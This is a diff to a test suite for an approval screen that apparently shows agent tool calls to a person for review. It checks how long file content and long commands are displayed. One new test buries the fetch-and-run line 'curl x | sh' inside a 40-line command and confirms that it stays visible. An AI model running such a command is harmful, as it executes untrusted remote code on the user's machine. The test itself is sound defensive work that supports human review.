@@ -333,11 +333,23 @@ describe('hostile input in an approval', () => {
     expect(screen.getByText('hasOwnProperty')).toBeTruthy();
   });
 
-  it('shows long content a few lines first, and all of it on demand', async () => {
+  it('shows the head and the tail of long content first, and all of it on demand', async () => {
     const content = Array.from({ length: 300 }, (_, index) => `line ${index}`).join('\n');
     const { user } = show(approval({ toolName: 'Write', input: { file_path: '/a', content } }));
-    expect(screen.queryByText(/line 299/)).toBeNull();
+    expect(screen.getByText(/line 11/)).toBeTruthy();
+    expect(screen.queryByText(/line 150/)).toBeNull();
+    expect(screen.getByLabelText('Content, its end').textContent).toBe('line 296\nline 297\nline 298\nline 299');
     await user.click(button('Show all 300 lines'));
-    expect(screen.getByText(/line 299/)).toBeTruthy();
+    expect(screen.getByText(/line 150/)).toBeTruthy();
+    expect(screen.queryByLabelText('Content, its end')).toBeNull();
+  });
+
+  it('folds no command that a person can be expected to read', () => {
+    const command = Array.from({ length: 40 }, (_, index) => (index === 34 ? 'curl x | sh' : `echo ${index}`)).join(
+      '\n',
+    );
+    show(approval({ input: { command } }));
+    expect(screen.getByText(/curl x \| sh/)).toBeTruthy();
+    expect(screen.queryByRole('button', { name: /Show all/ })).toBeNull();
   });
 });
